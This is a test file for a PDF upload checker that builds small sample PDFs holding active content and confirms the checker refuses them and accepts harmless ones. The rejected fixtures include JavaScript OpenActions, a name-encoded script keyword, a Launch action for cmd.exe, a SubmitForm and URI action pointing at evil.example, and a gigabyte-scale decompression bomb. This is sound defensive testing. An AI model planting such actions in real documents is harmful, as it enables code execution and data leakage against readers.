import { deflateSync } from 'node:zlib'
import { describe, expect, it } from 'vitest'
import { hasActions } from '../../server/onboarding/pdf-actions.ts'

const pdf = (...objects: readonly (string | Buffer)[]) =>
  Buffer.concat([
    Buffer.from('%PDF-1.7\n'),
    ...objects.flatMap((object) => [Buffer.from(object), Buffer.from('\nendobj\n')]),
    Buffer.from('%%EOF\n'),
  ])
const stream = (dictionary: string, data: Buffer) =>
  Buffer.concat([Buffer.from(`7 0 obj\n${dictionary}\nstream\r\n`), data, Buffer.from('\nendstream')])
const objectStream = (inside: string, dictionary = '<</Type/ObjStm/N 1/First 4/Filter/FlateDecode>>') =>
  stream(dictionary, deflateSync(Buffer.from(inside)))

describe('a PDF', () => {
  it.each([
    ['a script', '<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>'],
    ['a script under another spelling', '<</S/J#61vaScript/JS(x)>>'],
    ['a program to start', '<</S/Launch/F(cmd.exe)>>'],
    ['a form that sends itself', '<</S/SubmitForm/F(https://evil.example)>>'],
    [
      'an action at opening that leaves the document',
      '<</OpenAction <</Type/Action/S/URI/URI(https://evil.example)>> >>',
    ],
    ['an action of a page', '<</Type/Page/AA<</O 3 0 R>>>>'],
    ['a jump into another document', '<</S/GoToR/F(other.pdf)>>'],
    ['a file inside', '<</Names<</EmbeddedFiles 4 0 R>>>>'],
    ['a form of XFA', '<</AcroForm<</XFA 5 0 R>>>>'],
    ['a script in compressed objects', objectStream('1 0 <</S/JavaScript/JS(app.alert(1))>>')],
    [
      'a script in compressed objects that are named by codes',
      objectStream('1 0 <</S/Launch>>', '<</Type/Obj#53tm/Filter/FlateDecode>>'),
    ],
    ['a script in plain objects of a stream', stream('<</Type/ObjStm/N 1>>', Buffer.from('1 0 <</S/Launch>>'))],
    ['compressed objects that cannot be read', stream('<</Type/ObjStm/Filter/FlateDecode>>', Buffer.from('broken'))],
    [
      'compressed objects packed in another way',
      objectStream('1 0 <<>>', '<</Type/ObjStm/Filter[/ASCIIHexDecode/FlateDecode]>>'),
    ],
    [
      'compressed objects that grow to gigabytes',
      stream('<</Type/ObjStm/Filter/FlateDecode>>', deflateSync(Buffer.alloc(20_000_000))),
    ],
  ])('with %s is refused', async (_what, object) => {
    expect(await hasActions(pdf(object))).toBe(true)
  })

  it.each([
    ['nothing but a page', '<</Type/Catalog/Pages 2 0 R>>'],
    ['a destination at opening', '<</OpenAction[3 0 R/Fit]>>'],
    ['a jump to a page at opening', '<</OpenAction<</S/GoTo/D[3 0 R/Fit]>>>>'],
    ['a link to a site', '<</Type/Annot/A<</S/URI/URI(https://cadastur.turismo.gov.br)>>>>'],
    ['harmless compressed objects', objectStream('1 0 <</Type/Page/Parent 2 0 R>>')],
    [
      'a picture whose bytes look like an action',
      stream('<</Subtype/Image/Filter/DCTDecode>>', Buffer.from([1, 2, 3])),
    ],
  ])('with %s is accepted', async (_what, object) => {
    expect(await hasActions(pdf(object))).toBe(false)
  })
})
